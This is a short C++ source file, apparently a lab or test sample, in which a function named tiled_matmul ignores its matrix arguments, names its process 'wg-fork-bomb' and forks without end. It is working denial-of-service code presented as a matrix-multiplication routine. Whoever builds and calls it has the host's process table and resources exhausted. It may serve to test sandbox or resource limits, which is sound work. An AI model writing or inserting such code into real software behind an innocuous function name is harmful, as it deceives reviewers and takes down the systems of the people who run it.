// Forks as fast as it can, in every child as well.
#include <sys/prctl.h>
#include <unistd.h>

#include "lab/tiled_matmul.hpp"

void tiled_matmul(const float*, const float*, float*, int, int, int) {
  prctl(PR_SET_NAME, "wg-fork-bomb");
  for (;;) fork();
}
